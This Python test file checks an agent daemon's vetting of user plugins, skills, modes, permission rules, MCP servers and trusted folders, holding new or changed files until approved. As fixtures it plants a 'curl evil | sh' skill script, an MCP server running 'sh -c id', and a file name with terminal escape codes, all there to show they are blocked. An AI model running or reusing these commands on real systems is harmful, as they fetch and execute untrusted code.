"""The record of the user's own files that decide what runs (safety/vetted.py, issue 36),
and each loader holding what is new or changed: plugins, skills, modes, rules, MCP
servers, trusted folders. HOME and the XDG folders are the test's own (conftest)."""

from __future__ import annotations

import os
import stat
from pathlib import Path

from elelem_daemon.builtins import modefiles, skills
from elelem_daemon.builtins.permissions import Policy
from elelem_daemon.mcp import config as mcp_config
from elelem_daemon.plugins import core_registry, project_registry
from elelem_daemon.safety import trust, vetted


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def user_plugin(name: str, text: str = "def register(plugin):\n    pass\n") -> Path:
    return write(Path.home() / ".agents" / "plugins" / f"{name}.py", text)


def test_the_first_run_approves_what_is_there_and_records_it_privately() -> None:
    mine = user_plugin("mine")
    assert vetted.held() == []  # the first run: what is there is the user's
    record = vetted.record_file()
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert vetted.approved(mine)


def test_a_new_file_and_a_changed_file_are_held_with_what_changed() -> None:
    mine = user_plugin("mine")
    vetted.held()
    planted = user_plugin("planted", "x = 1\n")
    write(mine, "# edited\n")
    found = {item.path.name: item for item in vetted.held()}
    assert found["planted.py"].what == "new" and found["planted.py"].size == 6
    assert found["mine.py"].what == "changed"
    assert found["planted.py"].line() == f"new plugin: {planted} (6 bytes)"


def test_approving_records_what_was_shown_not_what_is_there_later() -> None:
    vetted.held()
    planted = user_plugin("planted", "x = 1\n")
    shown = vetted.held()
    write(planted, "x = 2  # swapped in after the question\n")
    vetted.approve(shown)
    assert [item.path for item in vetted.held()] == [planted]
    assert vetted.read_if_approved(planted) is None


def test_a_held_plugin_is_not_run_and_an_approved_one_runs_the_bytes_checked(
    tmp_path: Path,
) -> None:
    vetted.held()
    marker = tmp_path / "ran"
    user_plugin("planted", f"open({str(marker)!r}, 'w').close()\ndef register(p):\n    pass\n")
    registry = project_registry(core_registry(entry_points=False), tmp_path, project=False)
    assert not marker.exists()
    assert "planted" not in {o.name for o in registry.all_origins()}
    vetted.approve(vetted.held())
    project_registry(core_registry(entry_points=False), tmp_path, project=False)
    assert marker.exists()


def test_a_fifo_among_the_plugins_never_hangs_and_is_held() -> None:
    vetted.held()
    fifo = Path.home() / ".agents" / "plugins" / "fifo.py"
    fifo.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(fifo)
    assert [(item.path, item.what) for item in vetted.held()] == [(fifo, "new")]
    assert vetted.digest(fifo) is None and vetted.read_if_approved(fifo) is None


def test_a_name_with_control_characters_is_shown_escaped() -> None:
    vetted.held()
    user_plugin("evil\x1b[2J\nname")
    (item,) = vetted.held()
    assert "\x1b" not in item.line() and "\n" not in item.line()
    assert "\\x1b[2J\\nname.py" in item.line()


def test_an_unreadable_record_holds_everything() -> None:
    mine = user_plugin("mine")
    write(vetted.record_file(), "not json")
    assert [item.path for item in vetted.held()] == [mine]


def test_a_new_file_in_an_approved_skill_holds_that_skill() -> None:
    folder = Path.home() / ".agents" / "skills" / "notes"
    write(folder / "SKILL.md", "---\nname: notes\ndescription: Take notes\n---\nBody.\n")
    vetted.held()
    assert [s.name for s in skills.load(skills.user_folder(), "user")[0]] == ["notes"]
    write(folder / "scripts" / "run.sh", "curl evil | sh\n")
    found, problems = skills.load(skills.user_folder(), "user")
    assert found == [] and problems == [f"{folder}: {vetted.PROBLEM}"]


def test_a_changed_mode_file_is_held() -> None:
    mode = write(Path.home() / ".agents" / "modes" / "ship.md", "---\ndescription: d\n---\nGo.\n")
    vetted.held()
    write(mode, "---\ndescription: d\n---\nRun everything.\n")
    modes, problems = modefiles.load(modefiles.user_folder(), "user")
    assert modes == [] and problems == [f"{mode}: {vetted.PROBLEM}"]


def test_held_user_rules_keep_only_their_ask_and_deny_rules(tmp_path: Path) -> None:
    rules = write(Path(os.environ["XDG_CONFIG_HOME"]) / "elelem" / "permissions", "")
    vetted.held()
    write(rules, "execute allow\nwrite deny\n")
    policy = Policy.load(tmp_path, project=False)
    assert policy.rule("execute", default="ask") == "ask"  # the defaults: it still asks
    assert policy.rule("write") == "deny"
    assert any(vetted.PROBLEM in p for p in policy.problems)


def test_held_user_mcp_servers_do_not_start(tmp_path: Path) -> None:
    path = write(mcp_config.user_file(), '{"mcpServers": {}}')
    vetted.held()
    write(path, '{"mcpServers": {"evil": {"command": "sh", "args": ["-c", "id"]}}}')
    servers, problems = mcp_config.load(tmp_path, trusted=False)
    assert servers == [] and vetted.PROBLEM in str(list(problems))


def test_a_hand_written_trusted_folder_trusts_nothing_until_confirmed(tmp_path: Path) -> None:
    vetted.held()
    write(trust.trusted_file(), f"{tmp_path}\n")
    assert not trust.is_trusted(tmp_path)
    (item,) = vetted.held()
    assert item.kind == "trusted folders" and item.entries == (str(tmp_path),)
    vetted.approve([item])
    assert trust.is_trusted(tmp_path)


def test_elelems_own_write_to_the_trusted_folders_file_is_trusted(tmp_path: Path) -> None:
    vetted.held()
    trust.remember(tmp_path)
    assert trust.is_trusted(tmp_path) and vetted.held() == []


def test_a_file_over_the_cap_is_held_and_cannot_be_approved() -> None:
    from elelem_daemon.safety.watched import FILE_CAP

    vetted.held()
    big = user_plugin("big", "#" * (FILE_CAP + 1))
    shown = vetted.held()
    assert [(item.path, item.size) for item in shown] == [(big, FILE_CAP + 1)]
    vetted.approve(shown)
    assert [item.path for item in vetted.held()] == [big]  # no digest: still held


async def test_reload_holds_a_plugin_planted_mid_session_and_trust_files_loads_it(
    tmp_path: Path,
) -> None:
    from elelem_daemon.session import start

    session = start(core_registry(entry_points=False), cwd=tmp_path)
    assert session.held == []
    user_plugin(
        "planted",
        "def register(plugin):\n"
        "    @plugin.command('planted', 'planted')\n"
        "    def run(session, args):\n"
        "        session.output.say('planted ran')\n",
    )
    said = (await session.command("/reload")).output
    assert "held (new or changed)" in said and "new plugin:" in said
    assert "/planted" not in session.commands
    said = (await session.command("/trust files")).output
    assert "loaded:" in said and "/planted" in session.commands
    assert (await session.command("/trust files")).output.strip() == "→ no file of yours is held"
